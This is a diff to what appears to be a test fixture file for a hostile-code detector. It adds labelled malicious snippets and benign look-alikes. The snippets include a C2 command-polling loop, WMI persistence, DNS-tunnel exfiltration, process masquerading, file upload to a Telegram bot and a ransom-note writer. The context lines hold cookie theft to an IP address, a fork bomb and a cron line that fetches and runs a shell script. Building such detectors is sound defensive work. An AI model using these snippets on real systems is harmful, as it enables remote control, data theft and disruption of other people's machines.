@@ -80,6 +80,23 @@ FIRES = [
     ("cap.cookie-theft", "```js\nnew Image().src = 'https://203.0.113.5/c?d=' + document.cookie;\n```"),
     ("cap.fork-bomb", "```bash\n:(){ :|:& };:\n```"),
     ("cap.fetch-and-run-ip", "```bash\n* * * * * curl -s http://198.51.100.7/u.sh | sh\n```"),
+    (
+        "cap.polled-commands",
+        "```python\nwhile True:\n    cmd = requests.get(C2 + '/task').text\n"
+        "    out = subprocess.getoutput(cmd)\n    requests.post(C2 + '/out', data=out)\n    time.sleep(30)\n```",
+    ),
+    ("cap.wmi-persistence", "```powershell\n$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription\n```"),
+    (
+        "cap.dns-tunnel",
+        "```python\nfor chunk in chunks(base64.b32encode(data)):\n    dns.resolver.resolve(f'{chunk}.t.example.net', 'A')\n```",
+    ),
+    ("cap.masquerade", "```python\nimport setproctitle\nsetproctitle.setproctitle('[kworker/0:1]')\n```"),
+    (
+        "cap.chat-exfil",
+        "```python\nfor root, _, fs in os.walk(home):\n    requests.post('https://api.telegram.org/bot' + T + '/sendDocument', "
+        "files={'document': open(f, 'rb')})\n```",
+    ),
+    ("cap.ransom-note-file", "```python\nopen(os.path.join(d, 'HOW_TO_DECRYPT.txt'), 'w').write(NOTE)\n```"),
 ]
 
 
@@ -101,6 +118,10 @@ ORDINARY = [
     "```powershell\nSet-MpPreference -ScanScheduleDay 0\nStart-MpScan -ScanType QuickScan\n```",
     # uploading reports to our bucket
     "```python\nfor f in glob.glob('reports/*.pdf'):\n    s3.upload_file(f, 'our-reports-bucket', os.path.basename(f))\n```",
+    # polling an API and printing what it says runs nothing
+    "```python\nwhile True:\n    print(requests.get(API + '/status').json())\n    time.sleep(30)\n```",
+    # a DNS lookup of a host name, nothing encoded into it
+    "```python\nanswer = dns.resolver.resolve('example.com', 'MX')\nprint(base64.b64encode(b'ok'))\n```",
     # a hotkey in one's own window, no global hook
     "```c\nLRESULT CALLBACK WndProc(HWND h, UINT msg, WPARAM w, LPARAM l) { if (msg == WM_KEYDOWN) save_all(); }\n```",
 ]
